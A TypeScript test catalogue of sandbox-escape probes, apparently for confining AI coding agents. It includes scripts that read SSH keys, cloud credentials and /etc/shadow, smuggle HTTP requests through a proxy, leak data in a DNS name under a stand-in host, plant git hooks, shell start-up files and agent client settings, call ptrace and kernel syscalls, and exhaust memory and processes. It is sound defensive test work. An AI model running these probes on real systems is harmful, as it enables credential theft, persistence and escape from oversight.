/**
 * Ways out of a confinement, each a script for bash that prints ESCAPED if it got out. `$OUT` is a directory outside,
 * `$REAL` the real home directory, `$PORT` a listener of the machine's loopback, `$ADDRESS` the machine's own address,
 * `$PID` a process outside. Perl is used for system calls, because every Debian has it.
 */
export interface EscapeWay {
  readonly group: string;
  readonly way: string;
  readonly script: string;
}

const group = (name: string, ways: Readonly<Record<string, string>>): EscapeWay[] =>
  Object.entries(ways).map(([way, script]) => ({ group: name, way, script }));

const reads = (path: string): string => `head -c 1 ${path} 2>/dev/null | grep -q . && echo ESCAPED`;
const writes = (path: string): string => `(echo x >> ${path}) 2>/dev/null && echo ESCAPED`;
/** A system call by its number on x86-64 and on arm64; it got out if the kernel did not refuse. */
const call = (x64: number, arm64: number, args: string): string =>
  `perl -e 'use POSIX; my $n = (POSIX::uname())[4] eq "x86_64" ? ${x64} : ${arm64}; my $r = syscall($n, ${args}); print "ESCAPED\\n" if $r >= 0'`;
const socket = (family: number, type: number, protocol: number): string =>
  `perl -e 'socket(my $s, ${family}, ${type}, ${protocol}) and print "ESCAPED\\n"'`;
const unix = (path: string, address = `sockaddr_un(${path})`): string =>
  `perl -e 'use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, ${address}) and print "ESCAPED\\n"'`;
const proxied = (request: string): string =>
  `exec 3<>/dev/tcp/127.0.0.1/3128 && printf "${request}" >&3 && timeout 3 head -n 1 <&3 | grep -qE '^HTTP/1.. (200|101)' && echo ESCAPED`;
const connects = (target: string): string =>
  proxied(`CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n`);

export const EXHAUSTION = "exhaustion";
/** The service, if there is one, has to answer within the time of a way. */
const ANSWERS = `if [ -n "$HTTP_PROXY" ]; then exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://169.254.169.254/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n' >&3 && head -n 1 <&3 | grep -q '^HTTP/1.1 403' || echo ESCAPED; fi`;
/** A program that got everything has escaped; a limit ends it with another code. */
const exhausts = (program: string): string => `perl -e '${program}' 2>/dev/null && echo ESCAPED; ${ANSWERS}`;
const fills = (path: string, megabytes: number): string =>
  `dd if=/dev/zero of=${path} bs=1M count=${megabytes} 2>/dev/null && echo ESCAPED; rm -f ${path}; ${ANSWERS}`;
const CONNECTS =
  'use Socket; my @s; for (1..500) { socket(my $s, AF_INET, SOCK_STREAM, 6) or last; connect($s, sockaddr_in(3128, inet_aton("127.0.0.1"))) or last; push @s, $s }';

export const ESCAPE_WAYS: readonly EscapeWay[] = [
  ...group("network", {
    "TCP to the machine's loopback": "exec 3<>/dev/tcp/127.0.0.1/$PORT && echo ESCAPED",
    "TCP to the machine's address": `exec 3<>/dev/tcp/$ADDRESS/$PORT && echo ESCAPED`,
    "TCP to localhost by IPv6": "exec 3<>/dev/tcp/::1/$PORT && echo ESCAPED",
    "TCP to a public address": "timeout 2 bash -c 'exec 3<>/dev/tcp/1.1.1.1/53' && echo ESCAPED",
    "TCP to a public IPv6 address":
      "timeout 2 bash -c 'exec 3<>/dev/tcp/2606:4700:4700::1111/53' && echo ESCAPED",
    "TCP to a private address": "timeout 2 bash -c 'exec 3<>/dev/tcp/10.0.0.1/80' && echo ESCAPED",
    "TCP to the metadata address": "timeout 2 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80' && echo ESCAPED",
    "UDP to a name server":
      'perl -e \'use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 17); send($s, "x", 0, sockaddr_in(53, inet_aton("1.1.1.1"))) and print "ESCAPED\\n"\'',
    "TCP to a name server": "timeout 2 bash -c 'exec 3<>/dev/tcp/8.8.8.8/53' && echo ESCAPED",
    "a broadcast":
      'perl -e \'use Socket; for my $a ("255.255.255.255", "224.0.0.251") { socket(my $s, AF_INET, SOCK_DGRAM, 17); setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); send($s, "x", 0, sockaddr_in(5353, inet_aton($a))) and print "ESCAPED\\n" }\'',
    "every IPv6 node":
      'perl -e \'use Socket; socket(my $s, AF_INET6, SOCK_DGRAM, 17); send($s, "x", 0, pack_sockaddr_in6(53, inet_pton(AF_INET6, "ff02::1"))) and print "ESCAPED\\n"\'',
    "resolving a name": "getent hosts example.com >/dev/null && echo ESCAPED",
    "a raw socket": socket(2, 3, 1),
    "a packet socket": socket(17, 3, 0x0300),
    "a vsock socket": socket(40, 1, 0),
    "a Bluetooth socket": socket(31, 3, 1),
    "an ALG socket": socket(38, 5, 0),
    "a key socket": socket(15, 3, 2),
    "a new address on the interface": "ip addr add 192.0.2.9/24 dev lo 2>/dev/null && echo ESCAPED",
    "a new interface": "ip link add d0 type dummy 2>/dev/null && echo ESCAPED",
    "the network namespace of another process": call(308, 268, "3, 0x40000000"),
    "a name that carries data": "getent hosts c2VjcmV0.escape.example >/dev/null && echo ESCAPED",
  }),
  ...group("proxy", {
    "CONNECT to loopback": connects("127.0.0.1:$PORT"),
    "CONNECT to localhost": connects("localhost:$PORT"),
    "CONNECT to IPv6 loopback": connects("[::1]:$PORT"),
    "CONNECT to a mapped address": connects("[::ffff:127.0.0.1]:$PORT"),
    "CONNECT to a decimal address": connects("2130706433:$PORT"),
    "CONNECT to an octal address": connects("0177.0.0.1:$PORT"),
    "CONNECT to the zero address": connects("0.0.0.0:$PORT"),
    "CONNECT to the machine's address": connects("$ADDRESS:$PORT"),
    "CONNECT to metadata": connects("169.254.169.254:80"),
    "CONNECT to metadata by name": connects("metadata.google.internal:80"),
    "CONNECT to a host that nobody allowed": connects("example.com:443"),
    "CONNECT with another Host header": proxied(
      "CONNECT example.com:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n",
    ),
    "a plain request to loopback": proxied(
      "GET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n",
    ),
    "a plain request with a foreign Host": proxied(
      "GET http://example.com/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n",
    ),
    "a request with two lengths": proxied(
      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
    ),
    "a WebSocket upgrade": proxied(
      "GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
    ),
    "CONNECT with a user": connects("allowed.test@127.0.0.1:$PORT"),
    "CONNECT to a name with a dot": connects("localhost.:$PORT"),
    "CONNECT to a short address": `${connects("127.1:$PORT")}; ${connects("0x7f000001:$PORT")}; :`,
    "CONNECT to an address in an address": `${connects("[64:ff9b::7f00:1]:$PORT")}; ${connects("[::127.0.0.1]:$PORT")}; ${connects("[2002:7f00:1::]:$PORT")}; :`,
    "CONNECT to another name of loopback": `${connects("ip6-localhost:$PORT")}; ${connects("LOCALHOST:$PORT")}; :`,
    "a request behind a refused one": proxied(
      "CONNECT example.com:443 HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\nGET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n",
    ),
    "a request within a body": proxied(
      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nTransfer-Encoding : chunked\\r\\nContent-Length: 60\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n",
    ),
    "an unknown transfer coding": proxied(
      "POST http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n",
    ),
    "a header in the trailers": proxied(
      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: Host\\r\\n\\r\\n0\\r\\nHost: 127.0.0.1\\r\\n\\r\\n",
    ),
    "an address with a user": proxied(
      "GET http://example.com@127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n",
    ),
    "HTTP/2 without TLS": `${proxied("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")}; ${proxied("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n")}; :`,
    "a trace through the proxy": `${proxied("TRACE http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n")}; ${proxied("OPTIONS * HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n")}; :`,
    "CONNECT to loopback with a zone": `${connects("[::1%%25lo]:$PORT")}; ${connects("[fe80::1%%25lo]:$PORT")}; :`,
    "CONNECT to loopback without brackets": `${connects("::1:$PORT")}; ${connects("[::]:$PORT")}; ${connects("0:$PORT")}; :`,
    "CONNECT to wide digits": connects("\\xef\\xbc\\x91\\xef\\xbc\\x92\\xef\\xbc\\x97.0.0.1:$PORT"),
    "CONNECT to an encoded name": `${connects("%%6cocalhost:$PORT")}; ${connects("127.0.0.1%%00.example.com:$PORT")}; ${connects("xn--localhost-:$PORT")}; :`,
    "CONNECT to the machine's own name": `${connects("$MACHINE:$PORT")}; ${connects("$MACHINE.local:$PORT")}; :`,
    "CONNECT to a port beyond the last": `${connects("127.0.0.1:$((PORT + 65536))")}; ${connects("127.0.0.1:-$PORT")}; ${connects("127.0.0.1:0$PORT")}; :`,
    "CONNECT to a login": `${connects("127.0.0.1:22")}; ${connects("github.com:22")}; ${connects("ssh.github.com:443")}; :`,
    "a plain request for https": proxied(
      "GET https://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n",
    ),
    "a Host header over two lines": proxied(
      "GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n 127.0.0.1:$PORT\\r\\n\\r\\n",
    ),
    "two Host headers": proxied(
      "GET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: example.com\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n",
    ),
    "a WebSocket to loopback": proxied(
      "GET ws://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
    ),
    "the file scheme": proxied("GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
  }),
  ...group("sockets", {
    "a Unix socket in the workspace": unix('"workspace.sock"'),
    "a Unix socket in the home directory": unix('"$ENV{REAL}/home.sock"'),
    "a Unix socket outside": unix('"$ENV{OUT}/outside.sock"'),
    "an abstract socket": `${unix('"\\0svc-escape"')}; ${unix('"\\0svc-escape"', 'pack("S a108", 1, "\\0svc-escape")')}; :`,
    "the ssh agent":
      'ssh-add -l 2>/dev/null | grep -q . && echo ESCAPED; [ -n "$SSH_AUTH_SOCK" ] && echo ESCAPED',
    "D-Bus of the session":
      '[ -n "$DBUS_SESSION_BUS_ADDRESS" ] && echo ESCAPED; [ -S /run/user/$UID/bus ] && echo ESCAPED',
    "D-Bus of the system":
      "[ -S /run/dbus/system_bus_socket ] && echo ESCAPED; [ -S /var/run/dbus/system_bus_socket ] && echo ESCAPED",
    Docker:
      "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do [ -S $s ] && echo ESCAPED; done; :",
    X11: 'ls /tmp/.X11-unix 2>/dev/null | grep -q . && echo ESCAPED; [ -n "$DISPLAY" ] && echo ESCAPED',
    Wayland:
      '[ -n "$WAYLAND_DISPLAY" ] && echo ESCAPED; ls /run/user 2>/dev/null | grep -q . && echo ESCAPED',
    "the system's log and manager":
      'for s in /dev/log /run/systemd/journal/socket /run/systemd/notify /run/systemd/private /run/user/$UID/systemd/private; do [ -S $s ] && echo ESCAPED; done; [ -n "$NOTIFY_SOCKET" ] && echo ESCAPED; :',
    "agents of keys and sound":
      'for s in $REAL/.gnupg/S.gpg-agent /run/user/$UID/gnupg/S.gpg-agent /run/user/$UID/pulse/native /run/user/$UID/pipewire-0; do [ -S $s ] && echo ESCAPED; done; [ -n "$XDG_RUNTIME_DIR$GPG_AGENT_INFO" ] && echo ESCAPED; :',
    "the name service cache":
      "[ -S /run/nscd/socket ] && echo ESCAPED; [ -S /run/systemd/resolve/io.systemd.Resolve ] && echo ESCAPED",
  }),
  ...group("processes", {
    "the environment of process 1": "tr '\\0' '\\n' < /proc/1/environ | grep -q CANARY && echo ESCAPED",
    "any environment":
      "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -q CANARY && echo ESCAPED",
    "the own environment": "env | grep -q CANARY && echo ESCAPED",
    "a process outside by its number":
      '[ -r /proc/$PID/cmdline ] && tr "\\0" " " < /proc/$PID/cmdline | grep -q escape-outside && echo ESCAPED',
    "a signal to every process": "(kill -TERM -1) 2>/dev/null; echo held",
    "a signal to a process outside":
      'perl -e \'kill(0, $ENV{PID}) and -r "/proc/$ENV{PID}/cmdline" and open(my $f, "<", "/proc/$ENV{PID}/cmdline") and <$f> =~ /escape-outside/ and print "ESCAPED\\n"\'',
    ptrace: call(101, 117, "16, 1, 0, 0"),
    "memory of another process": call(310, 270, "1, 0, 0, 0, 0, 0"),
    "descriptors of another process": call(438, 438, "0, 0, 0"),
    "the root of process 1": "ls /proc/1/root/$OUT 2>/dev/null | grep -q . && echo ESCAPED",
    "the working directory of process 1":
      "ls /proc/1/cwd/../../$OUT 2>/dev/null | grep -q canary && echo ESCAPED",
    "an inherited descriptor":
      "for fd in /proc/self/fd/*; do n=$(basename $fd); [ \"$n\" -gt 2 ] && readlink $fd | grep -qE 'socket|CANARY|canary|svc-run' && echo ESCAPED; done; :",
    "files of process 1":
      "cat /proc/1/mem /proc/1/map_files/* 2>/dev/null | head -c 1 | grep -q . && echo ESCAPED",
    "descriptors of process 1":
      "for fd in /proc/1/fd/*; do readlink $fd 2>/dev/null | grep -qE 'socket|canary|svc-run' && (echo x >> $fd) 2>/dev/null && echo ESCAPED; done; :",
    "the program of process 1":
      'perl -e \'open(my $f, "+<", "/proc/1/exe") and print "ESCAPED\\n"\'; perl -e \'open(my $f, "<", "/proc/1/exe") or exit; open(my $g, "+<", "/proc/self/fd/" . fileno($f)) and print "ESCAPED\\n"\'; :',
    "the own user map":
      "(echo '0 0 1' > /proc/self/uid_map) 2>/dev/null && echo ESCAPED; (echo allow > /proc/self/setgroups) 2>/dev/null && echo ESCAPED; perl -e '$) = \"0 0\"; $) = 0; print \"ESCAPED\\n\" if $) =~ /^0/'; :",
    "the namespaces of process 1": "nsenter -t 1 -m -n true 2>/dev/null && echo ESCAPED",
    "the place of an open file":
      "for fd in 0 1 2; do ls /proc/self/fd/$fd/../canary 2>/dev/null && echo ESCAPED; done; ls /proc/self/root/$OUT /proc/self/cwd/../../outside 2>/dev/null | grep -q canary && echo ESCAPED; :",
    "a namespace by clone3":
      'perl -e \'my $a = pack("Q11", 0x10000000 | 0x40000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0); my $r = syscall(435, $a, 88); print "ESCAPED\\n" if $r >= 0\'',
    "protection from the memory killer":
      "(echo -1000 > /proc/self/oom_score_adj) 2>/dev/null && echo ESCAPED",
    "the own limits":
      "(mkdir /sys/fs/cgroup/svc-escape) 2>/dev/null && echo ESCAPED; (echo $$ > /sys/fs/cgroup/cgroup.procs) 2>/dev/null && echo ESCAPED; :",
    "the kernel's keyring": call(250, 219, "0, -3, 0, 0, 0"),
    "adding a key": call(248, 217, '"user", "svc", "x", 1, -3'),
    "a program that stays": "(setsid nohup sleep 300 >/dev/null 2>&1 &); echo held",
  }),
  ...group("kernel", {
    core_pattern: writes("/proc/sys/kernel/core_pattern"),
    "any sysctl":
      "find /proc/sys -type f -writable 2>/dev/null | head -n 1 | grep -q . && (for f in $(find /proc/sys -type f -writable 2>/dev/null); do (cat $f > $f) 2>/dev/null && echo ESCAPED && break; done); :",
    "sysrq-trigger": "(echo h > /proc/sysrq-trigger) 2>/dev/null && echo ESCAPED",
    "the file systems of the kernel":
      "find /sys /sys/kernel/debug /sys/fs/bpf -maxdepth 2 -type f -writable 2>/dev/null | grep -q . && echo ESCAPED; :",
    "kernel memory": `${reads("/dev/mem")}; ${reads("/dev/kmem")}; ${reads("/proc/kcore")}; :`,
    "kernel messages": `${reads("/dev/kmsg")}; dmesg 2>/dev/null | grep -q . && echo ESCAPED; :`,
    "a kernel module": call(313, 273, '3, "", 0'),
    kexec: call(246, 104, "0, 0, 0, 0"),
    bpf: call(321, 280, "0, 0, 0"),
    "perf events": call(298, 241, "0, 0, -1, -1, 0"),
    userfaultfd: call(323, 282, "0"),
    io_uring: call(425, 425, "1, 0"),
    "the 32-bit interface": "perl -e 'my $r = syscall(0x40000000 + 39); print \"ESCAPED\\n\" if $r > 0'",
    "setting the clock": "date -s '2030-01-01' >/dev/null 2>&1 && echo ESCAPED",
    "the host name": call(170, 161, '"evil", 4'),
  }),
  ...group("mounts", {
    mount:
      "mount -t tmpfs none /mnt 2>/dev/null && echo ESCAPED; mkdir -p /tmp/m; mount -t tmpfs none /tmp/m 2>/dev/null && echo ESCAPED",
    "binding the root": "mkdir -p /tmp/b; mount --bind / /tmp/b 2>/dev/null && echo ESCAPED",
    "remounting the root": "mount -o remount,rw / 2>/dev/null && echo ESCAPED",
    "unmounting what protects":
      "umount -l $PWD/.git/hooks 2>/dev/null && echo ESCAPED; umount -l /proc/sys 2>/dev/null && echo ESCAPED; :",
    "the new mount calls": `${call(430, 430, '"tmpfs", 0')}; ${call(428, 428, '-100, "/", 1')}`,
    "a user namespace": "unshare -Ur true 2>/dev/null && echo ESCAPED",
    "a mount namespace": "unshare -m true 2>/dev/null && echo ESCAPED",
    "a namespace in a namespace": "bwrap --ro-bind / / true 2>/dev/null && echo ESCAPED",
    chroot: "chroot /tmp true 2>/dev/null && echo ESCAPED",
    pivot_root: call(155, 41, '"/tmp", "/tmp"'),
    "a file by its handle": call(304, 265, "-100, 0, 0"),
    "a device file":
      "mknod /tmp/d b 8 0 2>/dev/null && head -c 1 /tmp/d 2>/dev/null | grep -q . && echo ESCAPED; mknod mem c 1 1 2>/dev/null && echo ESCAPED; :",
    "a disk": "for d in /dev/sd* /dev/vd* /dev/nvme* /dev/mapper/*; do [ -r $d ] && echo ESCAPED; done; :",
    fuse: "[ -r /dev/fuse ] && echo ESCAPED",
    "writing to the system": `${writes("/usr/bin/svc-escape")}; ${writes("/etc/svc-escape")}; ${writes("/svc-escape")}; ${writes("/run/svc-escape")}; :`,
  }),
  ...group("privileges", {
    sudo: "sudo -n true 2>/dev/null && echo ESCAPED",
    "a setuid program":
      "su -c true 2>/dev/null </dev/null && echo ESCAPED; cp /bin/bash s && chmod u+s s && ./s -p -c 'id -u' 2>/dev/null | grep -qx 0 && echo ESCAPED; rm -f s; :",
    "user 0": "perl -e '$< = 0; $> = 0; print \"ESCAPED\\n\" if $> == 0'",
    capabilities: "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | grep -qv 0000000000000000 && echo ESCAPED",
    "new privileges": "grep -q '^NoNewPrivs:.*0' /proc/self/status && echo ESCAPED",
    "another owner": "touch owned && chown 0:0 owned 2>/dev/null && echo ESCAPED; rm -f owned; :",
    "a set-user-ID file for later":
      'cp /bin/true setid; chmod 4755 setid 2>/dev/null; chmod 2755 setid 2>/dev/null; perl -e \'use Fcntl; sysopen(my $f, "setid-open", O_CREAT | O_WRONLY, 06755); syscall((POSIX::uname())[4] eq "x86_64" ? 85 : 1000, "setid-creat", 06755); syscall(452, -100, "setid", 06755, 0)\' -MPOSIX; find . -maxdepth 1 -perm /6000 | grep -q setid && echo ESCAPED; :',
    "a directory that hands its group on":
      "mkdir -m 2775 setgid 2>/dev/null; [ -g setgid ] && echo ESCAPED; rm -rf setgid; :",
    "a file capability":
      "cp /bin/true c && setcap cap_sys_admin+ep c 2>/dev/null && echo ESCAPED; rm -f c; :",
  }),
  ...group("files", {
    "a file outside": `${reads("$OUT/canary")}; ${writes("$OUT/canary")}; :`,
    "a file outside through a link": `ln -sf $OUT/canary link; ${reads("link")}; ${writes("link")}; rm -f link; :`,
    "a hard link to a file outside": `ln $OUT/canary hard 2>/dev/null && echo ESCAPED; :`,
    "a path with dots": `${reads("$PWD/../canary")}; ${reads("$PWD/../../outside/canary")}; :`,
    "a link that changes while it is read": `(for i in 1 2 3 4 5 6 7 8 9; do ln -sfn $OUT race; ln -sfn $PWD race; done) & for i in 1 2 3 4 5 6 7 8 9; do ${reads("race/canary")}; done; wait; rm -f race; :`,
    "links that were there before": `${reads("to-outside/canary")}; ${writes("to-outside/canary")}; ${writes("to-file")}; (echo x > to-nothing) 2>/dev/null && [ -e $OUT/made ] && echo ESCAPED; :`,
    "a credential by another name":
      "ln .env copy 2>/dev/null; cp --reflink=auto .env copy 2>/dev/null; mv .env env 2>/dev/null; mv sub sub2 2>/dev/null; grep -q canary copy env sub2/.env.local 2>/dev/null && echo ESCAPED; mv sub2 sub 2>/dev/null; rm -f copy; :",
    "private keys": `${reads("$REAL/.ssh/id_ed25519")}; ls -A $REAL/.ssh 2>/dev/null | grep -q . && echo ESCAPED; :`,
    "credentials of the cloud": `${reads("$REAL/.aws/credentials")}; ${reads("$REAL/.config/gcloud/credentials.db")}; :`,
    "credentials in the workspace": `${reads(".env")}; ${reads("sub/.env.local")}; :`,
    "the service's settings": `${reads("svc.config.yaml")}; ${reads("keys.json")}; ls -A data 2>/dev/null | grep -q . && echo ESCAPED; :`,
    "the password file": `${reads("/etc/shadow")}; grep -q "^root:" /etc/passwd && echo ESCAPED; :`,
    "other files in the temporary directory": "ls -A /tmp | grep -q canary && echo ESCAPED",
    "other files in memory": "ls -A /dev/shm | grep -q canary && echo ESCAPED",
    "the home directory":
      "grep -q escape-marker $REAL/.bashrc 2>/dev/null && echo ESCAPED; echo evil >> $REAL/.bashrc; :",
  }),
  ...group("files that run later", {
    "a git hook": writes(".git/hooks/post-checkout"),
    "git's configuration": `git config core.fsmonitor ./evil 2>/dev/null && echo ESCAPED; ${writes(".git/config")}; :`,
    "a new repository in its place":
      "mv .git away 2>/dev/null && echo ESCAPED; rm -rf .git/hooks 2>/dev/null; [ -d .git/hooks ] || echo ESCAPED; :",
    "git's common directory":
      "mkdir -p evil/hooks && printf '[core]\\n\\tfsmonitor = touch $OUT/later\\n' > evil/config && echo ../evil > .git/commondir; echo held",
    "a hook that is a link": `${writes("scripts/pre-commit")}; ${writes(".git/hooks/pre-commit")}; :`,
    "a hook behind a renamed directory":
      "mv scripts moved-away 2>/dev/null && mkdir scripts && echo 'touch $OUT/later' > scripts/pre-commit; echo held",
    "a configured hook behind a renamed directory":
      "mv tools tools2 2>/dev/null && mkdir -p tools/hooks && echo 'touch $OUT/later' > tools/hooks/post-merge; echo held",
    "a start-up file of a shell":
      "echo 'touch $OUT/later' > .bashrc; echo 'touch $OUT/later' > .profile; echo held",
    "git's attributes": `${writes(".git/info/attributes")}; :`,
    "attributes behind a renamed directory":
      "mv .git/info .git/info2 2>/dev/null && mkdir .git/info && echo '* filter=evil' > .git/info/attributes; echo held",
    "settings of a client":
      "(mkdir -p .claude && echo '{}' > .claude/settings.json) 2>/dev/null && echo ESCAPED; (echo x > .codex/config.toml) 2>/dev/null && echo ESCAPED; :",
    "a server for clients": writes(".mcp.json"),
    "tasks of an editor":
      "(mkdir -p .vscode && echo '{}' > .vscode/tasks.json) 2>/dev/null && echo ESCAPED; :",
    "a start-up file": writes(".envrc"),
    "a hook manager":
      "(mkdir -p .husky && echo x > .husky/pre-commit) 2>/dev/null && echo ESCAPED; " +
      writes("lefthook.yml") +
      "; :",
    "a renamed directory":
      "mv .claude gone 2>/dev/null && echo ESCAPED; mv .vscode gone 2>/dev/null && echo ESCAPED; :",
    "a nested start-up file": "mkdir -p deep/er && echo 'touch $OUT/later' > deep/er/.envrc; echo held",
    "a nested repository":
      "mkdir -p nested && cd nested && git init -q . 2>/dev/null && git config core.fsmonitor 'touch $OUT/later'; echo held",
    "a nested client directory": "mkdir -p deep/.claude && echo '{}' > deep/.claude/settings.json; echo held",
    "another spelling": "mkdir -p deep && echo x > deep/.ENVRC; echo held",
    "a link as configuration": "ln -s $OUT deep/.vscode 2>/dev/null; echo held",
  }),
  ...group("terminal", {
    "typing into the terminal":
      'perl -e \'my $c = "x"; ioctl(STDIN, 0x5412, $c) and print "ESCAPED\\n"; open(my $t, "+<", "/dev/tty") and ioctl($t, 0x5412, $c) and print "ESCAPED\\n"\'',
    "pasting into a console": "perl -e 'my $c = chr(3); ioctl(STDIN, 0x541c, $c) and print \"ESCAPED\\n\"'",
    "other terminals":
      "for t in /dev/pts/[0-9]*; do [ -w $t ] && ! [ $t -ef /dev/stdin ] && echo ESCAPED; done; [ -w /dev/tty1 ] && echo ESCAPED; :",
  }),
  ...group("loading", {
    "preloaded libraries": `[ -n "$LD_PRELOAD" ] && echo ESCAPED; ${writes("/etc/ld.so.preload")}; :`,
    "libraries of the system": `${writes("/usr/lib/svc-escape.so")}; ${writes("/etc/ld.so.conf")}; :`,
    "options of Node":
      '[ -n "$NODE_OPTIONS" ] && echo ESCAPED; ' +
      writes("$(dirname $(readlink -f $(command -v node)))/svc-escape") +
      "; :",
    "the proxy's authority": `${writes("$NODE_EXTRA_CA_CERTS")}; ls -A /run/svc | grep -q key && echo ESCAPED; :`,
  }),
  // Each takes more than any limit allows, and gives back what it has. Then the service must still answer.
  ...group(EXHAUSTION, {
    memory: exhausts("my @a; for (1..120) { push @a, chr(1) x 1e8 }"),
    processes: exhausts(
      "my @k; for (1..1500) { my $p = fork; if (!defined $p) { kill 9, @k; exit 1 } if (!$p) { sleep 20; exit } push @k, $p } kill 9, @k",
    ),
    "the temporary directory": fills("/tmp/fill", 1_500),
    "shared memory": fills("/dev/shm/fill", 400),
    "the home directory": fills("$HOME/fill", 1_500),
    "open files": exhausts(
      "my @f; for (1..100000) { open(my $f, q(<), q(/dev/null)) or exit 1; push @f, $f }",
    ),
    "every processor": `for i in 1 2 3 4 5 6 7 8; do (while :; do :; done) & done; sleep 1; ${ANSWERS}; kill $(jobs -p)`,
    "connections to the proxy": `perl -e '${CONNECTS} sleep 20' & sleep 2; ${ANSWERS}; kill $!`,
    "requests that never end": `perl -e '${CONNECTS} for my $s (@s) { syswrite $s, "POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: 9\r\n\r\n" } sleep 20' & sleep 2; ${ANSWERS}; kill $!`,
  }),
];
